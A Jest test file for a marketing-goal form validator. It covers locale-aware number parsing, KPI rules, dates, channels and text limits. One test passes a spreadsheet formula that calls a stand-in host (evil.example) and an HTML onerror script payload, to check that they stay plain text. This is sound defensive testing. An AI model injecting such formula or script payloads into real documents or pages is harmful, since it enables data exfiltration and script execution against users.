import { MAX_LENGTH, validateGoal, type FieldError, type GoalForm } from '../../src/core/goals';
import type { Lang } from '../../src/core/lang';

const TODAY = '2027-01-15';

const VALID: GoalForm = {
  outcome: 'sales',
  stage: 'engagement',
  kpi: 'website_clicks',
  statement: 'Go from 1,200 to 1,800 website clicks from Instagram by Jun 30, 2027',
  baseline: '1 200',
  target: '1800',
  unit: '',
  start: '2027-01-15',
  deadline: '2027-06-30',
  owner: 'Camille',
  channels: ['instagram'],
};

function errorsOf(patch: Record<string, unknown>, today = TODAY, lang: Lang = 'en'): FieldError[] {
  const result = validateGoal({ ...VALID, ...patch }, today, lang);
  return result.ok ? [] : result.errors;
}

function goalOf(patch: Record<string, unknown>, lang: Lang = 'en') {
  const result = validateGoal({ ...VALID, ...patch }, TODAY, lang);
  if (!result.ok) throw new Error(`expected a valid goal, got ${JSON.stringify(result.errors)}`);
  return result.goal;
}

describe('validateGoal: a valid form', () => {
  test('is normalised: catalogue ids, numbers, ISO dates, trimmed text, blank optional text left out', () => {
    const result = validateGoal(
      {
        ...VALID,
        id: ' G-7 ',
        statement: `  ${VALID.statement}  `,
        owner: ' Camille ',
        notes: '   ',
        otherChannel: 'stale',
        outcomeNumber: '',
      },
      TODAY,
      'en',
    );
    expect(result).toEqual({
      ok: true,
      goal: {
        id: 'G-7',
        outcome: 'sales',
        stage: 'engagement',
        kpi: 'website_clicks',
        statement: VALID.statement,
        baseline: 1200,
        target: 1800,
        start: '2027-01-15',
        deadline: '2027-06-30',
        owner: 'Camille',
        channels: ['instagram'],
      },
    });
  });

  test('keeps the optional fields it was given', () => {
    const goal = goalOf({
      outcomeNumber: '+20 % de ventes',
      outcomeDeadline: '2027-12-31',
      baselineDate: '2027-01-14',
      unit: '€',
      notes: 'Line one\nLine two',
      kpi: 'revenue',
      stage: 'conversion',
      baseline: '12 000 €',
      target: '€15,000.50',
    });
    expect(goal).toMatchObject({
      outcomeNumber: '+20 % de ventes',
      outcomeDeadline: '2027-12-31',
      baselineDate: '2027-01-14',
      unit: '€',
      notes: 'Line one\nLine two',
      baseline: 12000,
      target: 15000.5,
    });
  });

  test.each([
    ['1 200', '1800', 1200, 1800],
    ['1,5', '2,5', 1.5, 2.5],
    ['1200.5', '1 800,25', 1200.5, 1800.25],
    ['0', '10', 0, 10],
    [1200, 1800, 1200, 1800],
    ['1,200.5', '1.800,5', 1200.5, 1800.5],
  ])('baseline %j and target %j are read as %d and %d in both languages', (baseline, target, b, t) => {
    expect(goalOf({ baseline, target }, 'en')).toMatchObject({ baseline: b, target: t });
    expect(goalOf({ baseline, target }, 'fr')).toMatchObject({ baseline: b, target: t });
  });

  test.each([
    // One separator then three digits is read the way the form's language writes numbers.
    ['en', '1,200', '1,500', 1200, 1500],
    ['fr', '1,200', '1,500', 1.2, 1.5],
    ['en', '1.200', '1.500', 1.2, 1.5],
  ] as const)('in %s, baseline %j and target %j are read as %d and %d', (lang, baseline, target, b, t) => {
    expect(goalOf({ baseline, target }, lang)).toMatchObject({ baseline: b, target: t });
  });

  test('in French, "1.500" has two readings and asks which one, offering both', () => {
    const [error] = errorsOf({ baseline: '1.500' }, TODAY, 'fr');
    expect(error).toMatchObject({ field: 'baseline', code: 'ambiguousNumber', params: { got: '1.500', readings: [1500, 1.5] } });
    expect(errorsOf({ stage: 'conversion', kpi: 'revenue', baseline: '12.000 €' }, TODAY, 'fr')[0]).toMatchObject({
      code: 'ambiguousNumber',
    });
  });

  test.each([
    ['conversion_rate', 'conversion', '2,5 %', '4%', 0.025, 0.04],
    ['conversion_rate', 'conversion', '0.025', '0,04', 0.025, 0.04],
    ['conversion_rate', 'conversion', '0', '100%', 0, 1],
    ['churn', 'retention', '8 %', '5 %', 0.08, 0.05],
  ])('percent KPI %s: %j → %j is %d → %d', (kpi, stage, baseline, target, b, t) => {
    expect(goalOf({ kpi, stage, baseline, target })).toMatchObject({ baseline: b, target: t });
  });

  test('text that looks like a formula or like HTML stays text, as typed', () => {
    const goal = goalOf({ statement: '=IMPORTXML("https://evil.example", "//a")', owner: '<img src=x onerror=alert(1)>' });
    expect(goal.statement).toBe('=IMPORTXML("https://evil.example", "//a")');
    expect(goal.owner).toBe('<img src=x onerror=alert(1)>');
  });

  test.each([
    ['statement', MAX_LENGTH.statement],
    ['owner', MAX_LENGTH.owner],
    ['unit', MAX_LENGTH.unit],
    ['notes', MAX_LENGTH.notes],
    ['outcomeNumber', MAX_LENGTH.outcomeNumber],
  ])('%s of exactly %d characters is accepted', (field, max) => {
    expect(errorsOf({ [field]: 'é'.repeat(max) })).toEqual([]);
  });

  test('an emoji counts as one character', () => {
    expect(errorsOf({ owner: '🚀'.repeat(MAX_LENGTH.owner) })).toEqual([]);
  });

  test('start may be up to 365 days ago, and the deadline may be today', () => {
    expect(errorsOf({ start: '2026-01-15', deadline: TODAY })).toEqual([]);
  });

  test('start may be in the future', () => {
    expect(goalOf({ start: '2027-03-01', deadline: '2027-09-01' })).toMatchObject({ start: '2027-03-01' });
  });
});

describe('validateGoal: channels', () => {
  test.each([
    [{ channels: ['instagram', 'facebook', 'instagram', ' '] }, { channels: ['instagram', 'facebook'] }],
    [
      { channels: ['other'], otherChannel: '  Snapchat ' },
      { channels: [], otherChannel: 'Snapchat' },
    ],
    [{ channels: ['facebook', 'other'], otherChannel: 'Instagram' }, { channels: ['facebook', 'instagram'] }],
    [{ channels: ['instagram', 'other'], otherChannel: 'instagram' }, { channels: ['instagram'] }],
    [{ channels: ['instagram'], otherChannel: 'Snapchat' }, { channels: ['instagram'] }],
  ])('%j → %j', (patch, expected) => {
    const goal = goalOf(patch);
    expect(goal).toMatchObject(expected);
    if (!('otherChannel' in expected)) expect(goal.otherChannel).toBeUndefined();
  });
});

type Case = [string, Record<string, unknown>, keyof GoalForm, string, Record<string, unknown>?];

const CASES: Case[] = [
  // outcome, stage, KPI
  ['blank outcome', { outcome: '' }, 'outcome', 'required'],
  ['missing outcome', { outcome: undefined }, 'outcome', 'required'],
  ['unknown outcome', { outcome: 'world_peace' }, 'outcome', 'notInCatalogue', { got: 'world_peace' }],
  ['outcome label instead of id', { outcome: 'More sales' }, 'outcome', 'notInCatalogue'],
  ['outcome not text', { outcome: 42 }, 'outcome', 'invalid'],
  ['blank stage', { stage: '  ' }, 'stage', 'required'],
  ['unknown stage', { stage: 'fame' }, 'stage', 'notInCatalogue'],
  ['blank KPI', { kpi: '' }, 'kpi', 'required'],
  ['unknown KPI', { kpi: 'vibes' }, 'kpi', 'notInCatalogue'],
  ['KPI of another stage', { kpi: 'followers' }, 'kpi', 'kpiNotInStage'],
  ['part-only KPI', { stage: 'awareness', kpi: 'competitor_mentions' }, 'kpi', 'kpiPartOnly'],
  ['part-only KPI (lost customers)', { stage: 'retention', kpi: 'lost_customers' }, 'kpi', 'kpiPartOnly'],
  // statement and other text
  ['blank statement', { statement: '   ' }, 'statement', 'required'],
  ['statement of 281 characters', { statement: 'x'.repeat(281) }, 'statement', 'tooLong', { max: 280, length: 281 }],
  ['statement of 10,000 characters', { statement: 'x'.repeat(10_000) }, 'statement', 'tooLong', { max: 280, length: 10_000 }],
  ['statement with a tab', { statement: 'Go\tfrom' }, 'statement', 'controlCharacter'],
  ['statement with a line break', { statement: 'Go\nfrom' }, 'statement', 'controlCharacter'],
  ['statement with a NUL', { statement: 'Go\u0000' }, 'statement', 'controlCharacter'],
  ['statement with a C1 control', { statement: 'Go\u0085' }, 'statement', 'controlCharacter'],
  ['statement not text', { statement: { toString: () => 'x' } }, 'statement', 'invalid'],
  ['blank owner', { owner: '' }, 'owner', 'required'],
  ['owner of 81 characters', { owner: 'a'.repeat(81) }, 'owner', 'tooLong', { max: 80, length: 81 }],
  ['owner with an escape character', { owner: 'Cam\u001b[31mille' }, 'owner', 'controlCharacter'],
  ['unit of 21 characters', { unit: 'u'.repeat(21) }, 'unit', 'tooLong', { max: 20 }],
  ['notes of 501 characters', { notes: 'n'.repeat(501) }, 'notes', 'tooLong', { max: 500 }],
  ['notes with a tab', { notes: 'a\tb' }, 'notes', 'controlCharacter'],
  ['outcome number of 41 characters', { outcomeNumber: '1'.repeat(41) }, 'outcomeNumber', 'tooLong', { max: 40 }],
  ['id of 65 characters', { id: 'i'.repeat(65) }, 'id', 'tooLong', { max: 64 }],
  ['id not text', { id: 7 }, 'id', 'invalid'],
  // numbers
  ['blank baseline', { baseline: '' }, 'baseline', 'required'],
  ['baseline not a number', { baseline: 'lots' }, 'baseline', 'notNumber', { got: 'lots' }],
  ['baseline in scientific notation', { baseline: '1e3' }, 'baseline', 'notNumber'],
  ['baseline "Infinity"', { baseline: 'Infinity' }, 'baseline', 'notNumber'],
  ['baseline NaN as a number', { baseline: Number.NaN }, 'baseline', 'notNumber'],
  ['baseline Infinity as a number', { baseline: Number.POSITIVE_INFINITY }, 'baseline', 'notNumber'],
  ['negative baseline', { baseline: '-5' }, 'baseline', 'negative'],
  ['negative target', { target: '−1 800' }, 'target', 'negative'],
  ['baseline as a percent for a count KPI', { baseline: '12%' }, 'baseline', 'percentNotAllowed'],
  ['baseline of 41 characters', { baseline: '1'.repeat(41) }, 'baseline', 'tooLong', { max: 40 }],
  ['baseline an object', { baseline: { value: 3 } }, 'baseline', 'invalid'],
  ['blank target', { target: ' ' }, 'target', 'required'],
  ['target equal to baseline', { target: '1200' }, 'target', 'targetIsBaseline'],
  ['target equal to baseline, written differently', { baseline: '1 200,0', target: '1200' }, 'target', 'targetIsBaseline'],
  ['target below baseline for a KPI that should rise', { target: '1000' }, 'target', 'wrongDirection', { better: 'up' }],
  [
    'target above baseline for churn',
    { stage: 'retention', kpi: 'churn', baseline: '5%', target: '8%' },
    'target',
    'wrongDirection',
    { better: 'down' },
  ],
  [
    'a cost per acquisition that rises',
    { stage: 'conversion', kpi: 'cost_per_acquisition', baseline: '40', target: '42' },
    'target',
    'wrongDirection',
    { better: 'down' },
  ],
  [
    'a cost per acquisition given as a percentage',
    { stage: 'conversion', kpi: 'cost_per_acquisition', baseline: '40', target: '5%' },
    'target',
    'percentNotAllowed',
  ],
  [
    'percent KPI given 12',
    { stage: 'conversion', kpi: 'conversion_rate', baseline: '12', target: '0.2' },
    'baseline',
    'percentAboveOne',
    { fraction: 0.12 },
  ],
  [
    'percent KPI given 150%',
    { stage: 'conversion', kpi: 'conversion_rate', baseline: '0.1', target: '150%' },
    'target',
    'aboveHundredPercent',
  ],
  [
    'percent KPI given 12 as a number',
    { stage: 'conversion', kpi: 'conversion_rate', baseline: 0.1, target: 12 },
    'target',
    'percentAboveOne',
    { fraction: 0.12 },
  ],
  // dates
  ['blank start', { start: '' }, 'start', 'required'],
  ['start not a date', { start: 'tomorrow' }, 'start', 'invalidDate', { got: 'tomorrow' }],
  ['start an impossible day', { start: '2027-02-30' }, 'start', 'invalidDate'],
  ['start a French date', { start: '15/01/2027' }, 'start', 'invalidDate'],
  ['start more than a year ago', { start: '2026-01-14' }, 'start', 'startTooEarly', { date: '2026-01-15' }],
  ['blank deadline', { deadline: undefined }, 'deadline', 'required'],
  ['deadline equal to start', { deadline: '2027-01-15' }, 'deadline', 'deadlineNotAfterStart', { date: '2027-01-15' }],
  ['deadline before start', { start: '2027-03-01', deadline: '2027-02-01' }, 'deadline', 'deadlineNotAfterStart'],
  ['deadline in the past', { start: '2026-06-01', deadline: '2027-01-14' }, 'deadline', 'dateInPast', { date: TODAY }],
  ['deadline more than 10 years ahead', { deadline: '2037-01-16' }, 'deadline', 'deadlineTooFar', { date: '2037-01-15' }],
  ['deadline in year 9999', { deadline: '9999-12-31' }, 'deadline', 'deadlineTooFar'],
  ['baseline date after start', { baselineDate: '2027-01-16' }, 'baselineDate', 'baselineDateAfterStart', { date: '2027-01-15' }],
  ['baseline date not a date', { baselineDate: 'last month' }, 'baselineDate', 'invalidDate'],
  ['outcome deadline in the past', { outcomeDeadline: '2026-12-31' }, 'outcomeDeadline', 'dateInPast'],
  // channels
  ['no channel', { channels: [] }, 'channels', 'required'],
  ['channels missing', { channels: undefined }, 'channels', 'required'],
  ['only blank channels', { channels: [' ', ''] }, 'channels', 'required'],
  ['channels as text', { channels: 'instagram' }, 'channels', 'invalid'],
  ['a channel that is not text', { channels: ['instagram', 3] }, 'channels', 'invalid'],
  ['thousands of channels', { channels: Array(10_000).fill('instagram') }, 'channels', 'invalid'],
  ['unknown channel', { channels: ['myspace'] }, 'channels', 'notInCatalogue', { got: 'myspace' }],
  ['channel label instead of id', { channels: ['Instagram'] }, 'channels', 'notInCatalogue'],
  ['"other" without a name', { channels: ['other'] }, 'otherChannel', 'required'],
  ['"other" with a blank name', { channels: ['instagram', 'other'], otherChannel: '  ' }, 'otherChannel', 'required'],
  ['other channel of 41 characters', { channels: ['other'], otherChannel: 'c'.repeat(41) }, 'otherChannel', 'tooLong', { max: 40 }],
  ['other channel with a line break', { channels: ['other'], otherChannel: 'Snap\nchat' }, 'otherChannel', 'controlCharacter'],
];

describe('validateGoal: each rule refuses its field', () => {
  // Every row gets all five values: with fewer, jest would pass its `done` callback as `params`.
  const rows = CASES.map(([name, patch, field, code, params]) => [name, patch, field, code, params ?? null] as const);
  test.each(rows)('%s', (_name, patch, field, code, params) => {
    const errors = errorsOf(patch);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ field, code });
    if (params) expect(errors[0].params).toMatchObject(params);
  });
});

describe('validateGoal: all errors at once', () => {
  test('every refused field is reported, once, in the form’s order', () => {
    const errors = errorsOf({
      owner: '',
      channels: [],
      deadline: '2026-01-01',
      target: '1 200',
      statement: 'x'.repeat(10_000),
      kpi: 'nope',
      outcome: '',
    });
    expect(errors.map((e) => [e.field, e.code])).toEqual([
      ['outcome', 'required'],
      ['kpi', 'notInCatalogue'],
      ['statement', 'tooLong'],
      ['target', 'targetIsBaseline'],
      ['deadline', 'deadlineNotAfterStart'],
      ['owner', 'required'],
      ['channels', 'required'],
    ]);
  });

  test.each([null, undefined, 'a goal', 42, [], [VALID]])('%p is refused field by field, not with an exception', (input) => {
    const result = validateGoal(input, TODAY, 'en');
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.errors.map((e) => e.field)).toEqual([
        'outcome',
        'stage',
        'kpi',
        'statement',
        'baseline',
        'target',
        'start',
        'deadline',
        'owner',
        'channels',
      ]);
      expect(result.errors.every((e) => e.code === 'required')).toBe(true);
    }
  });

  test('a direction error needs both numbers: a bad baseline reports only itself', () => {
    expect(errorsOf({ baseline: 'abc', target: '5' }).map((e) => e.field)).toEqual(['baseline']);
  });

  test('an invalid today is a programming error', () => {
    expect(() => validateGoal(VALID, '15/01/2027', 'en')).toThrow(RangeError);
  });
});
